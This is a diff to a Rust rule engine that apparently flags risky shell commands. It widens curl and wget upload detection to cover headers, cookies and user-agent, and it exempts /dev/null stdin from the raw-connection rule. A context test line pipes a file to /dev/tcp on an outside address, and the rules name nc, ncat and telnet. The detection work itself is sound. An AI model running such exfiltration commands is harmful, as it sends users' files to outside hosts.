@@ -114,6 +114,7 @@ pub(super) const RULES: &[Rule] = &[
             "cat a > /dev/tcp/203.0.113.9/80",
         ],
         passes: &[
+            "openssl s_client -connect example.com:443 </dev/null",
             "nc -z localhost 5432",
             "nc -zv db.example 5432",
             "echo PING | nc localhost 6379",
@@ -201,7 +202,7 @@ fn upload_file(input: &RuleInput<'_>) -> Option<String> {
             let forms = command.values("F", &["form"]);
             data.iter().any(|value| value.starts_with('@') || value.contains("=@") || is_telling(value))
                 || command
-                    .values("H", &["data-raw", "form-string", "header"])
+                    .values("HbAe", &["data-raw", "form-string", "header", "cookie", "user-agent", "referer"])
                     .iter()
                     .any(|value| is_telling(value))
                 || forms.iter().any(|value| value.contains("=@") || value.contains("=<") || is_telling(value))
@@ -209,7 +210,10 @@ fn upload_file(input: &RuleInput<'_>) -> Option<String> {
         }
         "wget" => {
             command.has("", &["post-file", "body-file"])
-                || command.values("", &["post-data", "body-data"]).iter().any(|value| is_telling(value))
+                || command
+                    .values("", &["post-data", "body-data", "header", "user-agent"])
+                    .iter()
+                    .any(|value| is_telling(value))
         }
         "http" | "https" | "xh" => {
             command.stdin.is_given()
@@ -285,7 +289,8 @@ fn is_far(input: &RuleInput<'_>) -> bool {
 
 fn raw_connection(input: &RuleInput<'_>) -> Option<String> {
     let command = input.command;
-    let sends = command.stdin != Stdin::default();
+    let is_nothing = command.stdin.file.as_deref() == Some("/dev/null");
+    let sends = command.stdin != Stdin::default() && !is_nothing;
     let found = match command.program.as_str() {
         "nc" | "ncat" | "telnet" => {
             !command.has("z", &[])
